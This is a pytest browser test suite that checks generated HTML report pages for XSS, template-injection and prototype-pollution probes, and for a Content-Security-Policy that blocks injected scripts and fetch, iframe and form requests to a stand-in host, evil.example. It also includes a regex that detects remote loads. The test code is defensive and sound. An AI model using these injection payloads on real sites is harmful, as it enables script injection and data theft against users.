"""Rows H1 to H4 of the fault matrix, on the pages of real runs: hostile values, the policy, no network."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.hostile_calls import FILE_NAME, NAMED_ON_PAGES, PAYLOADS, TEXTS, marked, write_hostile
from tests.browser.html_validator import html_faults
from tests.running import run_script
from viewer.notices import with_notice

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

ARGUMENTS = (
    "--where",
    "environment=production",
    "--where",
    f"environment={marked(PAYLOADS[2], 'environment')}",
)
VIOLATIONS = """window.violations = [];
document.addEventListener('securitypolicyviolation', event => window.violations.push(event.effectiveDirective));"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Reports of hostile calls from a file of a hostile name, narrowed by a hostile argument."""
    folder = tmp_path_factory.mktemp("hostile")
    data = write_hostile(folder)
    run_script("run_all_analyzers.py", "--data", data, "--out", folder, "--quiet")
    run_script(
        "run_all_analyzers.py", "--data", data, "--out", folder / "narrowed", "--only", "finops_understanding",
        *ARGUMENTS, "--quiet",
    )  # fmt: skip
    return folder


def nine(folder: Path) -> list[Path]:
    files = sorted((folder / "html").glob("*.html"))
    assert len(files) == 9
    return files


@contextmanager
def watched(browser: Browser, file: Path, **options: Any) -> Iterator[tuple[Page, list[str]]]:
    """A page from disk without a network, and all that it said: console, errors, dialogs, requests."""
    context: BrowserContext = browser.new_context(offline=True, **options)
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    said: list[str] = []

    def dialog(opened: Any) -> None:
        said.append(f"dialog {opened.message}")
        opened.dismiss()

    def request(made: Any) -> None:
        if made.url.split("#")[0] != file.as_uri() and not made.url.startswith("data:"):
            said.append(f"request {made.url}")

    page.on("dialog", dialog)
    page.on("request", request)
    page.on("console", lambda message: "willReadFrequently" in message.text or said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto(file.as_uri())
    page.wait_for_selector("html[data-ready='1']", state="attached")
    yield page, said
    context.close()


def assert_harmless(page: Page, said: list[str]) -> None:
    assert page.evaluate("window.PWNED") is None
    assert page.evaluate("window.violations") == []
    assert page.locator("img, iframe, object, embed, [onx], [onerror], [onload], textarea").count() == 0
    assert page.evaluate("[...document.links].filter(one => !['file:', 'http:', 'https:'].includes(one.protocol)).length") == 0  # fmt: skip
    assert page.locator("main").count() == 1
    assert page.locator("footer").count() == 1
    assert said == []


@pytest.mark.slow
def test_h01_every_column_with_every_payload_is_text_on_all_nine_pages(
    hostile: Path, browser: Browser
) -> None:
    texts = ""
    for file in nine(hostile):
        with watched(browser, file, viewport={"width": 1280, "height": 800}) as (page, said):
            assert_harmless(page, said)
            assert page.evaluate("document.documentElement.scrollWidth") <= 1280, file.name
            texts += page.evaluate("document.body.textContent")
            for name in ("Escape", "?", "t", "f"):
                page.keyboard.press(name)
            for box in page.locator("[data-find]").all()[:2]:
                box.evaluate(
                    "box => { box.value = '<img src=x onerror=window.PWNED=1>'; box.dispatchEvent(new Event('input')); }"
                )
            assert_harmless(page, said)
    for payload in PAYLOADS:
        for column in NAMED_ON_PAGES:
            shown = marked(payload, column)
            assert shown in texts or shown[:200] in texts, (payload[:40], column)
    assert "49" not in texts.partition("{{7*7}}${7*7}{%if 1%}")[2][:3]


@pytest.mark.slow
@pytest.mark.parametrize("name", ["index", "finops_understanding", "customer_profitability"])
def test_h01_the_layout_holds_on_a_narrow_screen(hostile: Path, browser: Browser, name: str) -> None:
    with watched(browser, hostile / "html" / f"{name}.html", viewport={"width": 320, "height": 800}) as (
        page,
        said,
    ):
        assert_harmless(page, said)
        assert page.evaluate("document.documentElement.scrollWidth") <= 320


def test_h01_file_name_and_arguments_are_text(hostile: Path, browser: Browser) -> None:
    file = hostile / "narrowed" / "html" / "finops_understanding.html"
    with watched(browser, file) as (page, said):
        assert_harmless(page, said)
        quality = page.locator("#data-quality").inner_text()
        assert FILE_NAME in quality
        assert f"environment = {marked(PAYLOADS[2], 'environment')}" in quality


def test_h01_rejected_lines_are_text(hostile: Path, browser: Browser) -> None:
    with watched(browser, hostile / "html" / "finops_understanding.html") as (page, said):
        assert_harmless(page, said)
        lines = page.locator("#data-quality .lines").inner_text()
        assert "<script>window.PWNED=1</script> in timestamp" in lines


def test_h01_filters_by_a_hostile_value_work(hostile: Path, browser: Browser) -> None:
    payload = marked(PAYLOADS[1], "provider")
    with watched(browser, hostile / "html" / "finops_understanding.html") as (page, said):
        page.locator("[data-filter=provider]").select_option(payload)
        assert payload in page.locator("[data-chips]").inner_text()
        page.reload()
        page.wait_for_selector("html[data-ready='1']", state="attached")
        assert page.locator("[data-filter=provider]").input_value() == payload
        assert_harmless(page, said)


@pytest.mark.parametrize(
    "words",
    ["at=<img src=x onerror=window.PWNED=1>", "provider=<script>window.PWNED=1</script>", "period=x..y", "%ff",
     "sort.__proto__=a:asc&find.constructor=x&all.__proto__=1", "<script>window.PWNED=1</script>"],
)  # fmt: skip
def test_h01_a_hostile_address_is_text(hostile: Path, browser: Browser, words: str) -> None:
    with watched(browser, hostile / "html" / "finops_understanding.html") as (page, said):
        page.goto((hostile / "html" / "finops_understanding.html").as_uri() + "#" + words)
        page.reload()
        page.wait_for_selector("html[data-ready='1']", state="attached")
        assert page.evaluate("({}).asc") is None
        assert_harmless(page, said)


def test_h01_a_viewer_s_notice_is_text(hostile: Path, browser: Browser, tmp_path: Path) -> None:
    page_file = tmp_path / "index.html"
    page_file.write_bytes(
        with_notice((hostile / "html" / "index.html").read_bytes(), "; ".join(PAYLOADS[:8]))
    )
    with watched(browser, page_file) as (page, said):
        assert_harmless(page, said)
        assert PAYLOADS[0] in page.locator("#viewer-notice").inner_text()


@pytest.mark.slow
def test_h01_the_pages_are_valid_html(hostile: Path) -> None:
    assert html_faults(nine(hostile)) == []


ATTACKS = {
    "script-src-elem": """() => { const one = document.createElement('script'); one.textContent = 'window.PWNED = 1';
        document.body.append(one); }""",
    "script-src-elem from elsewhere": """() => { const one = document.createElement('script');
        one.src = 'https://evil.example/x.js'; document.body.append(one); }""",
    "script-src-attr": """() => { const one = document.createElement('button'); one.setAttribute('onclick', 'window.PWNED = 1');
        document.body.append(one); one.click(); }""",
    "script-src": "() => setTimeout(() => { try { eval('window.PWNED = 1'); } catch { /* refused */ } })",
    "img-src": """() => { const one = document.createElement('img'); one.src = 'https://evil.example/x.png';
        document.body.append(one); }""",
    "style-src-attr": "() => { document.body.setAttribute('style', 'background: red'); }",
    "style-src-elem": """() => { const one = document.createElement('style'); one.textContent = 'body { color: red }';
        document.head.append(one); }""",
    "connect-src": "() => fetch('https://evil.example/').catch(() => {})",
    "frame-src": """() => { const one = document.createElement('iframe'); one.src = 'https://evil.example/';
        document.body.append(one); }""",
    "object-src": """() => { const one = document.createElement('object'); one.data = 'https://evil.example/x';
        document.body.append(one); }""",
    "base-uri": """() => { const one = document.createElement('base'); one.href = 'https://evil.example/';
        document.head.append(one); }""",
    "form-action": """() => { const one = document.createElement('form'); one.action = 'https://evil.example/';
        document.body.append(one); one.requestSubmit(); }""",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_h02_the_policy_stops_what_a_broken_page_would_do(
    small_reports: Path, browser: Browser, attack: str
) -> None:
    with watched(browser, small_reports / "html" / "finops_realtime.html") as (page, _):
        page.evaluate(ATTACKS[attack])
        for _ in range(500):  # wait_for_function would evaluate a string, which is refused
            if page.evaluate("window.violations"):
                break
            page.wait_for_timeout(20)
        assert page.evaluate("window.violations")[0] == attack.split(maxsplit=1)[0]
        assert page.evaluate("window.PWNED") is None


def test_h02_every_page_has_the_policy_before_anything_it_governs(small_reports: Path) -> None:
    for file in nine(small_reports):
        text = file.read_text(encoding="utf-8")
        found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
        assert found
        policy = html.unescape(found[1])
        assert policy.startswith("default-src 'none'; script-src 'sha256-")
        assert "unsafe" not in policy
        assert "http" not in policy
        assert "*" not in policy
        assert not re.search(r"<(?:script|style|link|img)\b", text[: found.start()])


def test_h03_no_page_asks_the_network_for_anything_and_all_charts_are_drawn(
    small_reports: Path, browser: Browser
) -> None:
    for file in nine(small_reports):
        with watched(browser, file) as (page, said):
            canvases = page.locator("canvas").count()
            assert (
                page.evaluate(
                    "[...document.querySelectorAll('canvas')].filter(one => Chart.getChart(one)).length"
                )
                == canvases
            )
            assert canvases > 0 or file.name == "index.html"
            assert page.evaluate(UNPAINTED) == []
            assert said == []


UNPAINTED = """() => [...document.querySelectorAll('canvas')].filter(canvas => {
  const pixels = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
  for (let at = 3; at < pixels.length; at += 4) if (pixels[at] > 0) return false;
  return true;
}).map(canvas => canvas.closest('figure').id)"""

LOADS = re.compile(
    r"""(?:src|srcset|href|data|action|poster|formaction|ping|manifest)\s*=\s*["']?\s*(?:https?:)?//"""
    r"""|url\(\s*["']?\s*(?:https?:)?//|@import|sourceMappingURL|<base\b|<meta[^>]+http-equiv=["']?refresh"""
    r"""|importScripts|new\s+(?:Worker|WebSocket|EventSource)\b|\.sendBeacon\(""",
    re.IGNORECASE,
)


def test_h04_no_file_loads_from_anywhere(small_reports: Path, hostile: Path) -> None:
    for file in (*nine(small_reports), *nine(hostile)):
        found = LOADS.search(file.read_text(encoding="utf-8"))
        assert found is None, (file.name, found and found[0])


def test_h04_the_rule_finds_what_it_looks_for() -> None:
    for load in (
        '<script src="https://cdn.example/x.js">', "<img src=//evil.example/x>", "url(http://x/y.png)", "@import 'x.css'",
        "//# sourceMappingURL=x.map", '<link rel=stylesheet href="//cdn.example/x.css">', "<base href=x>",
    ):  # fmt: skip
        assert LOADS.search(load), load
    assert not LOADS.search('<a href="finops_realtime.html#alerts">')


def test_h01_all_columns_of_per_call_are_attacked() -> None:
    assert len(TEXTS) == 13
    assert set(NAMED_ON_PAGES) <= set(TEXTS)
